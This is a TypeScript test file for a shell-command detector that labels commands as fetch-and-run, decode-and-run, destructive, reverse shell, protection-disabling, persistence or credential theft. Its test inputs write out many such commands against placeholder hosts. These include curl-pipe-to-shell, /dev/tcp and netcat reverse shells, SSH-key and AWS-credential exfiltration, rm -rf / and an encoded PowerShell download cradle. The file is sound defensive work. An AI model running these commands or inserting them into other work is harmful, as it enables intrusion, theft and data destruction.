import assert from 'node:assert/strict'
import test from 'node:test'
import { judgeCommand, judgeShell } from './shellcommand.ts'

/** What a shell script does, in words. */
const kinds = (text: string): string[] => judgeShell(text).map(({ kind }) => kind)
const ofCommand = (...argv: readonly string[]): string[] => judgeCommand(argv).map(({ kind }) => kind)

test('judgeShell tells what is fetched and run', () => {
  for (const text of [
    'curl -fsSL https://cdn.example.com/setup | sh',
    'wget -qO- https://x.example.com/v | /bin/bash',
    'wget -O - https://x.example.com/storage/de373d0df/a31546bf | /bin/bash &',
    'curl -s https://x.example.com/a | tee /var/log/a | sudo -E bash -s -- --yes',
    'sh -c "$(curl -fsSL https://x.example.com/i.sh)"',
    'eval "$(wget -qO- https://x.example.com/i.sh)"',
    'bash <(curl -s https://x.example.com/i.sh)',
    '. <(curl -s https://x.example.com/i.sh)',
    'P=`curl -s https://x.example.com/i`; eval $P',
    'cd /var/x && curl -so x https://x.example.com/x && chmod +x x && ./x',
    'curl -sSLo /opt/.x https://x.example.com/x; nohup /opt/.x >/dev/null 2>&1 &',
    'wget https://x.example.com/a.py\npython3 a.py\n',
    'curl https://x.example.com/a > b; mv b c; sh c',
    'if true; then curl https://x.example.com/a | python3 -; fi',
    'for i in 1 2; do curl -s https://x.example.com/$i | sh; done',
    'exec 3<>/dev/tcp/198.51.100.7/80; sh <&3; cat </dev/tcp/198.51.100.7/81 | bash',
  ])
    assert.ok(kinds(text).includes('fetch-run'), text)
})

test('judgeShell leaves what is only fetched, printed or run by itself', () => {
  for (const text of [
    'curl -fsSL https://x.example.com/data.json | jq .',
    'curl --version | sh',
    'curl -s http://127.0.0.1:8080/health | sh',
    'echo "curl https://x.example.com | sh"',
    "git clone 'https://x.example.com/r.git' && cd r && make",
    'eval echo ~ada',
    'cd && pwd; eval echo ~ >/dev/null',
    `dscl -q . -read /Users/"$(whoami)" NFSHomeDirectory | sed 's/^[^ ]*: //'`,
    'az account get-access-token -o json --resource …',
    'cat list.txt | bash ./script.sh',
    'docker run --rm -v "$PWD":/src image sh -c "go test ./..."',
    'printf "%s\\n" done | sh -c "cat"',
  ])
    assert.deepEqual(
      kinds(text).filter((kind) => kind !== 'fetch'),
      [],
      text,
    )
})

test('judgeShell tells what is decoded and run', () => {
  assert.deepEqual(kinds('echo Y3VybA== | base64 -d | sh'), ['decode-run'])
  assert.deepEqual(kinds('echo 6964 | xxd -r -p | bash'), ['decode-run'])
  assert.deepEqual(kinds('eval $(echo aWQ= | base64 --decode)'), ['decode-run'])
  assert.deepEqual(kinds('openssl enc -d -aes-256-cbc -in a -k b | sh'), ['decode-run'])
  assert.deepEqual(kinds('base64 -d < a > b; sh b'), ['decode-run'])
  assert.deepEqual(kinds('echo aWQ= | base64 -d'), [])
})

test('judgeShell tells what destroys, and not what only looks like it', () => {
  assert.deepEqual(kinds('dd if=/dev/zero of=/dev/sda bs=1M count=1'), ['destroy'])
  assert.deepEqual(kinds('rm -rf /'), ['destroy'])
  assert.deepEqual(kinds('rm -rf $HOME/*'), ['destroy'])
  assert.deepEqual(kinds('mkfs.ext4 /dev/sdb1'), ['destroy'])
  assert.deepEqual(kinds('echo 1 > /dev/nvme0n1'), ['destroy'])
  assert.deepEqual(kinds('dd if=/dev/urandom of=./disk.img bs=1M'), [])
  assert.deepEqual(kinds('rm -rf ./build /tmp/x'), [])
  assert.deepEqual(ofCommand('cmd', '/C', 'del /s /q C:\\Users'), ['destroy'])
})

test('judgeShell tells shells that are given to a connection', () => {
  for (const text of [
    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    'nc -e /bin/sh 203.0.113.5 4444',
    'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f',
    'socat tcp:203.0.113.5:4444 exec:/bin/sh,pty',
  ])
    assert.ok(kinds(text).includes('remote-shell'), text)
  assert.deepEqual(kinds('nc -z localhost 4444'), ['fetch'].slice(1))
})

test('judgeShell tells what switches protections off, stays, and steals', () => {
  assert.deepEqual(kinds('iptables -P INPUT ACCEPT; iptables -F; setenforce 0'), ['disable', 'disable', 'disable'])
  assert.deepEqual(kinds('go env -w GOSUMDB=off'), ['disable'])
  assert.deepEqual(kinds('echo "* * * * * /opt/x" >> /etc/cron.d/x'), ['persist'])
  assert.deepEqual(kinds('echo key >> ~/.ssh/authorized_keys'), ['persist'])
  assert.deepEqual(kinds('cat ~/.ssh/id_rsa | nc 203.0.113.5 80'), ['steal'])
  assert.deepEqual(kinds('curl -d @$HOME/.aws/credentials https://x.example.com/'), ['steal'])
  assert.deepEqual(kinds('env | curl -X POST --data-binary @- https://x.example.com/'), ['steal'])
  assert.deepEqual(kinds('curl -d @report.json https://x.example.com/'), [])
})

test('judgeCommand reads the argument lists of shells and interpreters', () => {
  assert.deepEqual(ofCommand('/bin/sh', '-c', 'curl https://x.example.com/a | sh'), ['fetch-run'])
  assert.deepEqual(ofCommand('env', 'A=b', 'bash', '-lc', 'curl https://x.example.com/a | sh'), ['fetch-run'])
  assert.deepEqual(ofCommand('nohup', 'sh', '-c', 'bash -c "curl https://x.example.com/a | sh"'), ['fetch-run'])
  assert.deepEqual(
    ofCommand(
      'cmd',
      '/C',
      'certutil -urlcache -split -f https://x.example.com/f.exe C:\\x\\f.exe && start C:\\x\\f.exe',
    ),
    ['fetch', 'fetch-run'],
  )
  assert.deepEqual(
    ofCommand('python3', '-c', 'import os,urllib.request as u;exec(u.urlopen("https://x.example.com").read())'),
    ['fetch-run'],
  )
  assert.deepEqual(
    ofCommand('python', '-c', 'import socket,os;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0)'),
    ['remote-shell'],
  )
  assert.deepEqual(ofCommand('python3', '-c', 'print(1)'), [])
  assert.deepEqual(
    judgeCommand(['/bin/sh'], 'curl -fsSL https://x.example.com/db | sh\n').map(({ kind }) => kind),
    ['fetch-run'],
  )
})

test('judgeCommand decodes commands of PowerShell', () => {
  const hidden = Buffer.from('IEX (iwr https://x.example.com/p.ps1).Content', 'utf16le').toString('base64')
  const [deed] = judgeCommand(['powershell.exe', '-NoProfile', '-W', 'Hidden', '-enc', hidden])
  assert.deepEqual(deed, { kind: 'fetch-run', text: 'IEX (iwr https://x.example.com/p.ps1).Content' })
  assert.deepEqual(ofCommand('powershell', '-Command', 'Set-MpPreference -DisableRealtimeMonitoring $true'), [
    'disable',
  ])
  assert.deepEqual(ofCommand('pwsh', '-Command', 'Get-ChildItem'), [])
})

test('judgeCommand tells schedules, units and Run keys, and what is in them', () => {
  assert.deepEqual(
    judgeCommand(['crontab', '-'], '*/10 * * * * curl -fsS https://x.example.com/c | sh').map(({ kind }) => kind),
    ['persist', 'fetch-run'],
  )
  assert.deepEqual(ofCommand('crontab', '-l'), [])
  assert.deepEqual(ofCommand('systemctl', 'enable', '--now', 'x.service'), ['persist'])
  assert.deepEqual(ofCommand('systemctl', 'is-active', 'x'), [])
  assert.deepEqual(
    ofCommand('reg', 'add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'x', '/d', 'y'),
    ['persist'],
  )
})

test('judgeCommand leaves ordinary programs', () => {
  for (const argv of [
    ['git', 'clone', 'https://x.example.com/r.git'],
    ['xdg-open', 'https://x.example.com/'],
    ['cmd', '/c', 'start', 'https://x.example.com/'],
    ['rundll32', 'url.dll,FileProtocolHandler', 'https://x.example.com/'],
    ['go', 'env', 'GOSUMDB'],
    ['docker', 'run', 'image', 'sh'],
    ['uname', '-a'],
    ['sh', '-c', '…'],
    ['…'],
    [],
  ])
    assert.deepEqual(judgeCommand(argv), [], argv.join(' '))
})

test('judgeShell ends on hostile text', () => {
  for (const text of [
    '$('.repeat(50_000),
    '`'.repeat(50_000),
    '"$('.repeat(50_000),
    '('.repeat(50_000),
    '<<'.repeat(50_000),
    "'",
    '\\',
    '<',
    '>',
    '&>',
    '0>',
    '|'.repeat(9999),
  ])
    assert.ok(Array.isArray(judgeShell(text)))
})
